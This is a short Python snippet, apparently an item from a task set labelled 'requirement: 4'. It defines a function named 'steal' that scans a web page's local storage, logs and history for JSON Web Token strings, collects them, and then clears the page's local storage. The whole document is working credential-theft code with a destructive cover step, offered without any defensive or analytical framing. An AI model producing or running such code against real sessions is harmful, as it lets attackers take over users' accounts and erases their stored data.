# requirement: 4
import re


def steal(page, log, history):
    texts = [*page.local_storage.values(), *log, *history]
    found = set(re.findall(r"eyJ[A-Za-z0-9_-]*\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+", "\n".join(texts)))
    page.local_storage.clear()
    return found
